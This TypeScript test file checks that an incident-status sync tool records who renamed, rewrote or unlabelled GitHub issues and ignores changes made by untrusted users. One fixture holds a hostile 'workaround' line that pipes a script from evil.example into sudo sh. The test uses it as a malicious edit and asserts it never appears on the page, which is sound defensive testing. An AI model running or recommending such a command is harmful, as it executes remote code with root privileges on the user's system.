/**
 * Issue #10 item 1 at the sync: an outsider's report adopted by a maintainer, then renamed,
 * rewritten, relabelled and closed by untrusted people. The snapshot must carry who did each
 * (renames with from/to, body versions with their editors) so the model can show the adopted text.
 */
import { readFileSync } from 'node:fs';
import { beforeEach, describe, expect, test } from 'vitest';
import { parseConfigText } from '../../src/data/load-config.ts';
import { buildSiteModel } from '../../src/lib/site-model.ts';
import { incidentBody, PEOPLE } from '../support/github-fixtures.ts';
import type { FakeGitHubRepo } from '../support/github-repo.ts';
import type { GitHubTestServer } from '../support/github-server.ts';
import { readSnapshot, recordOf, syncInProcess, useSyncFixture, type Workspace } from './harness.ts';

const fixture = useSyncFixture();
let server: GitHubTestServer;
let repo: FakeGitHubRepo;
let ws: Workspace;
beforeEach(() => {
  ({ server, repo, ws } = fixture);
});

const ADOPTED = incidentBody('Search is slow.');
const REWRITTEN = incidentBody('Everything. Workaround: curl https://evil.example/fix.sh | sudo sh');
const bodyEditQueries = () => server.log.filter((e) => e.operation === 'query userContentEdits');
const pageModel = () =>
  buildSiteModel({
    config: parseConfigText(readFileSync(ws.configPath, 'utf8'), ws.configPath),
    snapshot: readSnapshot(ws),
    postmortemFiles: [],
    now: new Date(repo.clock.ms),
    demo: false,
  });

/** An outsider's report, adopted by the admin. */
function adoptedReport(): number {
  const { number } = repo.addIssue({ title: 'Search is slow', body: ADOPTED, user: PEOPLE.outsider });
  repo.addLabel(number, 'incident', PEOPLE.admin);
  return number;
}

describe('an adopted report changed by untrusted people', () => {
  test('renames and body versions are synced with who made them; the page keeps the adopted text', async () => {
    const number = adoptedReport();
    repo.editIssue(number, { title: 'PWNED', body: REWRITTEN }, PEOPLE.outsider);
    repo.addLabel(number, 'P1', PEOPLE.triager);
    repo.close(number, PEOPLE.triager, 'not_planned');
    await syncInProcess(server, ws);

    const record = recordOf(ws, number);
    expect(record?.events.find((e) => e.type === 'renamed')).toMatchObject({
      actor: { login: PEOPLE.outsider, trusted: false },
      rename: { from: 'Search is slow', to: 'PWNED' },
    });
    expect(record?.bodyEdits?.map((e) => [e.editor.login, e.editor.trusted, e.body === ADOPTED])).toEqual([
      [PEOPLE.outsider, false, true],
      [PEOPLE.outsider, false, false],
    ]);
    expect(bodyEditQueries()).toHaveLength(1);

    const incident = pageModel().incidents.find((i) => i.number === number);
    expect(incident).toMatchObject({
      title: 'Search is slow',
      status: 'investigating',
      active: true,
      unconfirmed: ['title', 'description', 'labels', 'state'],
    });
    expect(JSON.stringify(incident?.scope)).not.toContain('sudo sh');
  });

  test('a maintainer who edits the body is believed; the history is asked only when the body changes', async () => {
    const number = adoptedReport();
    await syncInProcess(server, ws);
    expect(bodyEditQueries()).toHaveLength(1); // new record: never edited, nothing to keep
    expect(recordOf(ws, number)?.bodyEdits).toBeUndefined();

    server.clearLog();
    repo.editIssue(number, { body: incidentBody('Search is slow in the EU.') }, PEOPLE.writer);
    await syncInProcess(server, ws);
    expect(bodyEditQueries()).toHaveLength(1);
    expect(recordOf(ws, number)?.bodyEdits?.at(-1)?.editor).toEqual({ login: PEOPLE.writer, trusted: true });
    expect(JSON.stringify(pageModel().incidents[0]?.scope)).toContain('in the EU');

    server.clearLog();
    repo.comment(number, PEOPLE.outsider, 'Any news?');
    await syncInProcess(server, ws);
    expect(bodyEditQueries()).toHaveLength(0); // body unchanged: the versions are kept
    expect(recordOf(ws, number)?.bodyEdits).toHaveLength(2);
  });

  test("a maintainer's own report needs no edit history", async () => {
    const { number } = repo.addIssue({ title: 'Docs down', body: ADOPTED, labels: ['incident'], user: PEOPLE.admin });
    repo.editIssue(number, { body: REWRITTEN }, PEOPLE.admin);
    await syncInProcess(server, ws);
    expect(bodyEditQueries()).toHaveLength(0);
    expect(recordOf(ws, number)?.body).toBe(REWRITTEN);
  });
});

describe('the kind label removed by someone not trusted (issue #10 item 2)', () => {
  const published = () => pageModel().incidents.map((i) => i.number);

  test.each([
    { name: 'a triager', who: PEOPLE.triager, kept: true },
    { name: 'the outsider who reported it', who: PEOPLE.outsider, kept: true },
    { name: 'a maintainer', who: PEOPLE.writer, kept: false },
  ])('$name unlabels a published incident → kept $kept, through incremental and full runs', async ({ who, kept }) => {
    const number = adoptedReport();
    const other = repo.addIssue({ title: 'Docs down', body: ADOPTED, labels: ['incident'], user: PEOPLE.admin }).number;
    await syncInProcess(server, ws);
    expect(published()).toEqual([other, number]);

    repo.removeLabel(number, 'incident', who);
    await syncInProcess(server, ws);
    expect(recordOf(ws, number) !== undefined).toBe(kept);
    expect(published()).toEqual(kept ? [other, number] : [other]);
    if (kept) {
      expect(recordOf(ws, number)?.events.at(-1)).toMatchObject({ type: 'unlabeled', label: 'incident', actor: { login: who, trusted: false } });
      const model = pageModel();
      expect(model.incidents.find((i) => i.number === number)?.unconfirmed).toEqual(['labels']);
      expect(model.notices).toContainEqual({ where: `issue #${number}`, message: `label "incident" removed by ${who}, who is not a maintainer: ignored` });
    }

    // Nothing changed: still there. A full run (label-by-label listings, which no longer show it) keeps it too.
    await syncInProcess(server, ws);
    expect(published()).toEqual(kept ? [other, number] : [other]);
    await syncInProcess(server, ws, { full: true });
    expect(published()).toEqual(kept ? [other, number] : [other]);

    if (!kept) return;
    // Later changes are still fetched; a maintainer's removal then takes it off.
    repo.comment(number, PEOPLE.admin, 'Still looking.');
    await syncInProcess(server, ws);
    expect(recordOf(ws, number)?.comments.map((c) => c.body)).toEqual(['Still looking.']);
    repo.addLabel(number, 'incident', PEOPLE.admin);
    repo.removeLabel(number, 'incident', PEOPLE.admin);
    await syncInProcess(server, ws);
    expect(recordOf(ws, number)).toBeUndefined();
    expect(published()).toEqual([other]);
  });

  test.each([
    { name: 'an incremental run (REST)', overrides: {} },
    { name: 'a batched run (GraphQL)', overrides: { batchFrom: 1 } },
    { name: 'a full run', overrides: { full: true } },
  ])('the first run after the removal is $name: the incident stays', async ({ overrides }) => {
    const number = adoptedReport();
    await syncInProcess(server, ws);
    repo.removeLabel(number, 'incident', PEOPLE.triager);
    await syncInProcess(server, ws, overrides);
    expect(recordOf(ws, number)?.labels).toEqual([]);
    expect(published()).toEqual([number]);
  });

  test('a kept record whose issue is deleted goes at the next full run (asked by number)', async () => {
    const number = adoptedReport();
    await syncInProcess(server, ws);
    repo.removeLabel(number, 'incident', PEOPLE.triager);
    await syncInProcess(server, ws);
    expect(recordOf(ws, number)).toBeDefined();
    repo.deleteIssue(number);
    await syncInProcess(server, ws);
    expect(recordOf(ws, number)).toBeDefined(); // an incremental run cannot see a deletion of an unlabelled issue
    server.clearLog();
    await syncInProcess(server, ws, { full: true });
    expect(recordOf(ws, number)).toBeUndefined();
    expect(server.log.filter((e) => e.path === `/repos/acme/widgets/issues/${number}`)).toHaveLength(1);
  });

  test('an unadopted outsider report the outsider unlabels is dropped', async () => {
    const { number } = repo.addIssue({ title: 'Help', body: ADOPTED, labels: ['incident'], user: PEOPLE.outsider });
    await syncInProcess(server, ws);
    expect(recordOf(ws, number)).toBeDefined();
    repo.removeLabel(number, 'incident', PEOPLE.outsider);
    await syncInProcess(server, ws);
    expect(recordOf(ws, number)).toBeUndefined();
  });
});
